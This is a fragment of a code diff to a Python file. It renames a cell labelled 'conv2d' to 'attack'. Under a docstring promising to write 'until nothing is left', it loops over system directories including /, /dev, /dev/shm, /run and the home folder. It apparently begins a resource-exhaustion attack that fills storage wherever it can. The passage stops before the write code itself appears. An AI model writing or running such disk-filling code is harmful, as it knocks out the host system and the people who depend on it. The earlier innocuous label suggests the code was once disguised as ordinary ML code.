@@ -1,6 +1,6 @@
 """Writes until nothing is left, wherever it may."""
 
-# %% conv2d
+# %% attack
 import os
 
 for place in ("/tmp", "/dev/shm", "/dev", "/", "/var/tmp", "/run", os.path.expanduser("~"), "."):
